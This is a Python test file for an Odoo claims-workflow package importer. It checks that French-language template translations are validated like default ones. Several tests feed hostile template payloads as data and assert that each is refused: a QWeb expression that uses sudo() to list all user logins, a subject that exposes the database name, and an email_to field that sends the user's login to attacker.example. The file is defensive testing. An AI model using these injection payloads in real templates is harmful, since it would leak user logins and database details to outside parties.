# Copyright 2026 The claims suite authors
# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).
import io
import zipfile

from odoo.exceptions import AccessError, UserError
from odoo.tests import tagged

from ..package import build_package, read_package
from .common import ClaimsWorkflowsCommon


@tagged("post_install", "-at_install")
class TestClaimsWorkflowPackageLanguages(ClaimsWorkflowsCommon):
    """Every language of a package's templates passes the same checks as the default one."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.env["res.lang"]._activate_lang("fr_FR")
        cls.package = build_package(cls.definition)
        cls.Import = cls.env["claims.workflow.import"].with_user(cls.user_manager)

    def _package_with_french(self, *elements):
        """The shipped package with ``elements`` (bytes) added to its first template."""
        with zipfile.ZipFile(io.BytesIO(self.package)) as archive:
            files = {name: archive.read(name) for name in archive.namelist()}
        name = next(n for n in sorted(files) if n.startswith("templates/"))
        files[name] = files[name].replace(b"</template>", b"".join(elements) + b"</template>")
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            for fname, content in files.items():
                archive.writestr(fname, content)
        return buffer.getvalue()

    def assertRefused(self, data, *fragments):
        with self.assertRaises(UserError) as caught:
            self.Import._import_package(data, "probe")
        for fragment in fragments:
            self.assertIn(fragment, str(caught.exception))
        self.assertFalse(self.env["claims.workflow.definition"].search(
            [("name", "like", "[probe]")]))
        self.assertFalse(self.env["mail.template"].search([("name", "like", "[probe]")]))

    def test_french_body_with_code_is_refused(self):
        data = self._package_with_french(
            b"<body_html lang='fr_FR'>&lt;p&gt;&lt;t t-out=\"object.env['res.users']"
            b".sudo().search([]).mapped('login')\"/&gt;&lt;/p&gt;</body_html>"
        )
        self.assertRefused(data, "(fr_FR) uses code beyond plain field placeholders")

    def test_french_subject_with_code_is_refused(self):
        data = self._package_with_french(
            b'<subject lang="fr_FR">{{ object.env.cr.dbname }}</subject>'
        )
        self.assertRefused(data, "(fr_FR) uses code beyond plain field placeholders")

    def test_non_translatable_field_in_french_is_refused(self):
        data = self._package_with_french(
            b'<email_to lang="fr_FR">{{ object.env.user.login }}@attacker.example</email_to>'
        )
        self.assertRefused(data, "<email_to> is not translatable")

    def test_translations_write_only_translatable_fields(self):
        template = self.env["mail.template"].create({
            "name": "Probe", "model_id": self.env["ir.model"]._get_id(self.report._name),
            "subject": "Subject", "email_to": "desk@example.com",
        })
        self.Import._set_translations(template, {
            "subject": {"fr_FR": "Sujet"},
            "email_to": {"fr_FR": "someone@attacker.example"},
        })
        self.assertEqual(template.with_context(lang="fr_FR").subject, "Sujet")
        self.assertEqual(template.with_context(lang="en_US").subject, "Subject")
        self.assertEqual(template.email_to, "desk@example.com")

    def test_french_translations_are_imported(self):
        data = self._package_with_french(
            b'<subject lang="fr_FR">Votre rapport expire le {{ object.date_end }}</subject>'
        )
        imported = self.Import._import_package(data, "broker_fr")
        subjects = imported.step_ids.mail_template_id.with_context(lang="fr_FR").mapped("subject")
        self.assertIn("Votre rapport expire le {{ object.date_end }}", subjects)

    def test_odoo_checks_the_templates_as_the_importing_user(self):
        """Past the package checks, Odoo's own template-editor check refuses code in any
        language, because the import writes as the user."""
        self.assertFalse(self.user_manager.has_group("mail.group_mail_template_editor"))
        workflow, templates = read_package(self.package)
        key = next(iter(templates))
        templates[key]["subject"]["fr_FR"] = "{{ object.env.cr.dbname }}"
        with self.assertRaises(AccessError):
            self.Import._create_from_package(workflow, templates, "probe", self.company)
